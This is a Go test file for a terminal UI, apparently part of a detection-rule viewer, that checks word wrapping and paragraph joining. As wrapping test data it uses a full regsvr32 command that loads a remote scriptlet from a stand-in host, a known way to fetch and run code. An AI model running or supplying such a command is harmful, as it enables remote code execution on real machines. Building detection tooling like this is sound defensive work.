package tui

import (
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"
)

// TestWrapWords: values wrap at spaces only; a token wider than the line
// is broken at its edge; hyphens, slashes and dots never break a line.
func TestWrapWords(t *testing.T) {
	tests := []struct {
		text  string
		width int
		want  []string
	}{
		{"regsvr32.exe /s /n /u /i:https://cdn-update.example.net/s/inv.sct scrobj.dll", 50,
			[]string{"regsvr32.exe /s /n /u", "/i:https://cdn-update.example.net/s/inv.sct", "scrobj.dll"}},
		{"a-b-c-d-e-f-g-h", 6, []string{"a-b-c-", "d-e-f-", "g-h"}},
		{"short", 10, []string{"short"}},
		{"two  spaces kept", 20, []string{"two  spaces kept"}},
		{"word " + strings.Repeat("x", 25), 10, []string{"word", "xxxxxxxxxx", "xxxxxxxxxx", "xxxxx"}},
		{"line one\nline two", 20, []string{"line one", "line two"}},
		{"", 10, []string{""}},
	}
	for _, tt := range tests {
		got := wrapWords(tt.text, tt.width)
		if strings.Join(got, "|") != strings.Join(tt.want, "|") {
			t.Errorf("wrapWords(%q, %d) = %q, want %q", tt.text, tt.width, got, tt.want)
		}
		for _, l := range got {
			if ansi.StringWidth(l) > tt.width {
				t.Errorf("wrapWords(%q, %d): line %q is too wide", tt.text, tt.width, l)
			}
		}
		if strings.Join(strings.Fields(strings.Join(got, " ")), "") != strings.Join(strings.Fields(tt.text), "") {
			t.Errorf("wrapWords(%q, %d) lost text: %q", tt.text, tt.width, got)
		}
	}
	// An indicator that fits a line is never broken.
	url := "/i:https://cdn-update.example.net/s/inv.sct"
	for w := len(url); w < len(url)+30; w++ {
		found := false
		for _, l := range wrapWords("regsvr32.exe /s /n /u "+url+" scrobj.dll", w) {
			found = found || strings.Contains(l, url)
		}
		if !found {
			t.Errorf("width %d: the URL is broken", w)
		}
	}
}

// TestParagraphs: a rule description's lines join into paragraphs; blank
// lines and list items start new ones.
func TestParagraphs(t *testing.T) {
	got := paragraphs("Detects regsvr32\n  loading a scriptlet.\n\n- from a URL\n- from a file\r\nwith scrobj.dll\n")
	want := []string{"Detects regsvr32 loading a scriptlet.", "- from a URL", "- from a file with scrobj.dll"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("paragraphs = %q, want %q", got, want)
	}
}
